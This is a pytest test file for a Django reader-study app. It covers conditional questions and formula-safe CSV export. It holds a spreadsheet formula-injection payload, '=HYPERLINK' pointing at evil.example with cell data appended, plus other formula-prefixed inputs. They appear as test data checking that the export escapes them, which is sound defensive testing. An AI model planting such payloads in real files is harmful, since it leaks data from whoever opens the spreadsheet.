# ruff: noqa: F811
"""Conditional questions (issue 15.7) and formula-safe CSV (issue 16): a question shown only when another one has
a given answer is designed, validated, audited and frozen like any question; a hidden question is never
required, an answer to it is refused, and a stored answer is cleared (with its history) when its question
hides. The answers CSV neutralises a comment "=HYPERLINK(...)" and keeps negative numbers."""

import csv
import io

import pytest

from dla_web.csv_export import safe_cell, safe_row
from tests.integration.reader_support import SHAPE, add_dla, reader_cases  # noqa: F401

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1, "open the image")'


def _study_with_questions(admin, title="Conditions"):
    r = admin.post("/api/reader-studies/", {"title": title}, format="json")
    assert r.status_code == 201, r.json()
    rs_id = r.json()["id"]
    questions = admin.get(f"/api/reader-studies/{rs_id}/questions/").json()
    return rs_id, {q["key"]: q for q in questions}


def test_default_locations_question_depends_on_residual_bone(client_for):
    rs_id, qs = _study_with_questions(client_for("admin"))
    assert qs["artifact_locations"]["show_if"] == {"question": "residual_bone", "answer": True}
    assert all(qs[k]["show_if"] is None for k in qs if k != "artifact_locations")


def test_bad_conditions_are_refused_with_a_message(client_for):
    admin = client_for("admin")
    rs_id, qs = _study_with_questions(admin)
    url = f"/api/reader-studies/{rs_id}/questions/"
    base = {"key": "why", "text": "Why?", "type": "text", "required": False, "order": 50}
    bad = [
        ({"question": "nope", "answer": True}, "no question 'nope'"),
        ({"question": "why", "answer": True}, "cannot depend on itself"),
        ({"question": "residual_bone", "answer": "yes"}, "answer true or false"),
        ({"question": "artifact_locations", "answer": "elbow"}, "not one of the choices"),
        ({"question": "artifact_severity", "answer": 7}, "scale 0..3"),
        ({"question": "comment", "answer": "x"}, "needs a yes/no"),
        ({"question": "residual_bone"}, "show_if: give null"),
        ("residual_bone", "show_if: give null"),
    ]
    for show_if, message in bad:
        r = admin.post(url, {**base, "show_if": show_if}, format="json")
        assert r.status_code == 400, (show_if, r.json())
        assert message in str(r.json()), (message, r.json())
    # a cycle: a <- b, then a made to depend on b
    a = admin.post(url, {**base, "key": "a", "type": "yes_no", "show_if": None}, format="json").json()
    b = admin.post(
        url,
        {**base, "key": "b", "type": "yes_no", "show_if": {"question": "a", "answer": True}},
        format="json",
    )
    assert b.status_code == 201, b.json()
    r = admin.patch(f"{url}{a['id']}/", {"show_if": {"question": "b", "answer": False}}, format="json")
    assert r.status_code == 400 and "cycle" in r.json()["detail"], r.json()
    # the question a condition points at can be neither deleted nor renamed, nor lose the answer's choice
    bone = qs["residual_bone"]["id"]
    r = admin.delete(f"{url}{bone}/")
    assert r.status_code == 400 and "artifact_locations" in r.json()["detail"], r.json()
    r = admin.patch(f"{url}{bone}/", {"key": "bone"}, format="json")
    assert r.status_code == 400 and "cannot change" in r.json()["detail"], r.json()
    r = admin.patch(f"{url}{bone}/", {"type": "text"}, format="json")
    assert r.status_code == 400, r.json()
    assert admin.get(f"{url}{bone}/").json()["key"] == "residual_bone"


def test_condition_changes_are_audited_and_frozen_once_open(client_for, reader_cases, make_user):
    from dla_web.models import AuditEvent

    admin = client_for("admin")
    rs_id, qs = _study_with_questions(admin)
    loc = qs["artifact_locations"]["id"]
    url = f"/api/reader-studies/{rs_id}/questions/{loc}/"
    r = admin.patch(url, {"show_if": {"question": "artifact_severity", "answer": 2}}, format="json")
    assert r.status_code == 200, r.json()
    event = AuditEvent.objects.filter(action="reader_study.question.change", object_id=str(rs_id)).latest(
        "id"
    )
    assert event.detail["before"]["show_if"] == {"question": "residual_bone", "answer": True}
    assert event.detail["after"]["show_if"] == {"question": "artifact_severity", "answer": 2}
    r = admin.patch(url, {"show_if": None}, format="json")
    assert r.status_code == 200 and r.json()["show_if"] is None
    # open it: the condition is part of the frozen design
    studies = reader_cases(1)
    assert (
        admin.post(f"/api/reader-studies/{rs_id}/cases/", {"ids": [studies[0].pk]}, format="json").status_code
        == 201
    )
    reader = make_user("cond_reader", "Reader")
    assert (
        admin.post(f"/api/reader-studies/{rs_id}/readers/", {"ids": [reader.pk]}, format="json").status_code
        == 201
    )
    from reader_study import services
    from reader_study.models import DesignFrozen, Question, ReaderStudy

    services.open_study(ReaderStudy.objects.get(pk=rs_id))
    r = admin.patch(url, {"show_if": {"question": "residual_bone", "answer": True}}, format="json")
    assert r.status_code == 409, r.json()
    q = Question.objects.get(pk=loc)
    q.show_if = {"question": "residual_bone", "answer": True}
    with pytest.raises(DesignFrozen):
        q.save()


@pytest.fixture
def conditional_study(reader_cases, users, make_user):
    """An open side-by-side study with the default questions plus a required conditional question and a number
    question that takes negative values."""
    from reader_study import services
    from reader_study.models import Question, ReaderStudy

    rs = ReaderStudy.objects.create(title="Conditional", created_by=users["admin"])
    services.add_default_questions(rs)
    Question.objects.create(
        reader_study=rs,
        key="worst_site",
        text="Worst artifact site",
        type="single",
        choices=["left", "right"],
        required=True,
        show_if={"question": "residual_bone", "answer": True},
        order=90,
    )
    Question.objects.create(
        reader_study=rs,
        key="offset",
        text="Offset",
        type="number",
        scale_min=-10,
        scale_max=10,
        required=False,
        order=91,
    )
    services.add_cases(rs, [s.pk for s in reader_cases(1)])
    services.add_readers(rs, [(users.get("reader") or make_user("reader", "Reader")).pk])
    return services.open_study(rs)


def _case(reader, rs):
    token = reader.get(f"/api/reading-studies/{rs.pk}/").json()["resume"]
    case = reader.get(f"/api/reading/{token}/").json()
    return token, case, {q["key"]: q["id"] for q in case["questions"]}


def _base_answers(ids, image, bone):
    return [
        {"question": ids["residual_bone"], "image": image, "value": bone},
        {"question": ids["artifact_severity"], "image": image, "value": 1},
        {"question": ids["small_vessel_conspicuity"], "image": image, "value": 4},
        {"question": ids["diagnostic_confidence"], "image": image, "value": 3},
    ]


def test_hidden_questions_are_refused_cleared_and_never_required(conditional_study, client_for):
    from reader_study.models import Answer, AnswerEvent

    reader = client_for("reader")
    token, case, ids = _case(reader, conditional_study)
    assert {q["key"]: q["show_if"] for q in case["questions"]}["worst_site"] == {
        "question": "residual_bone",
        "answer": True,
    }
    put = lambda answers: reader.put(f"/api/reading/{token}/answers/", {"answers": answers}, format="json")  # noqa: E731
    # an answer to a question its image hides is refused, and nothing of the request is stored
    r = put(
        [
            *_base_answers(ids, "A", False),
            {"question": ids["artifact_locations"], "image": "A", "value": ["other"]},
        ]
    )
    assert r.status_code == 400 and "not shown for image A" in r.json()["detail"], r.json()
    assert not Answer.objects.filter(assignment__token=token).exists()
    # shown when residual bone is yes (in the same request too)
    r = put(
        [
            *_base_answers(ids, "A", True),
            {"question": ids["artifact_locations"], "image": "A", "value": ["skull base"]},
            {"question": ids["worst_site"], "image": "A", "value": "left"},
            *_base_answers(ids, "B", True),
        ]
    )
    assert r.status_code == 200, r.json()
    # B says yes but has no worst site: required because shown
    r = reader.post(f"/api/reading/{token}/submit/", {}, format="json")
    assert r.status_code == 400 and "Worst artifact site (B)" in r.json()["detail"], r.json()
    assert "(A)" not in r.json()["detail"]
    # B changes to no: worst site hides there and is no longer required; A's answers stay
    assert put([{"question": ids["residual_bone"], "image": "B", "value": False}]).status_code == 200
    # A changes to no: its stored location and worst site are cleared, with the history kept
    r = put([{"question": ids["residual_bone"], "image": "A", "value": False}])
    assert r.status_code == 200, r.json()
    assert r.json()["answers"][str(ids["artifact_locations"])]["A"] is None
    assert r.json()["answers"][str(ids["worst_site"])]["A"] is None
    history = list(
        AnswerEvent.objects.filter(assignment__token=token, question_id=ids["worst_site"], image="A")
        .order_by("id")
        .values_list("value", flat=True)
    )
    assert history == ["left", None]
    # clearing a hidden question (null / empty) is always accepted
    r = put([{"question": ids["artifact_locations"], "image": "A", "value": []}])
    assert r.status_code == 200, r.json()
    r = reader.post(f"/api/reading/{token}/submit/", {}, format="json")
    assert r.status_code == 200 and r.json()["submitted"], r.json()


def test_answers_csv_neutralises_formulas_and_keeps_negative_numbers(conditional_study, client_for):
    reader = client_for("reader")
    token, case, ids = _case(reader, conditional_study)
    answers = [
        *_base_answers(ids, "A", False),
        *_base_answers(ids, "B", False),
        {"question": ids["comment"], "image": "A", "value": HYPERLINK},
        {"question": ids["comment"], "image": "B", "value": "@SUM(1+1)"},
        {"question": ids["offset"], "image": "A", "value": -3},
        {"question": ids["offset"], "image": "B", "value": -2.5},
    ]
    r = reader.put(f"/api/reading/{token}/answers/", {"answers": answers}, format="json")
    assert r.status_code == 200, r.json()
    response = client_for("admin").get(f"/api/reader-studies/{conditional_study.pk}/answers-csv/")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    by = {(row["question_key"], row["image"]): row["value"] for row in rows}
    assert by[("comment", "A")] == "'" + HYPERLINK
    assert by[("comment", "B")] == "'@SUM(1+1)"
    assert by[("offset", "A")] == "-3" and by[("offset", "B")] == "-2.5"
    assert None not in rows[0] and "undefined" not in rows[0]  # every column is named
    for row in rows:  # no cell of the file starts a formula
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_safe_cell_follows_the_owasp_rule():
    for text in ("=1+1", "+1", "-1+2", "@A1", "\tx", "\rx", "-", '=HYPERLINK("x")', "-2 mm"):
        assert safe_cell(text) == "'" + text
    for number in ("-3", "-2.5", "-0.0001", "-1e-05", "12", "3.5000"):
        assert safe_cell(number) == number
    assert safe_row([-3, -2.5, None, True, "plain", "a=b"]) == [-3, -2.5, None, True, "plain", "a=b"]
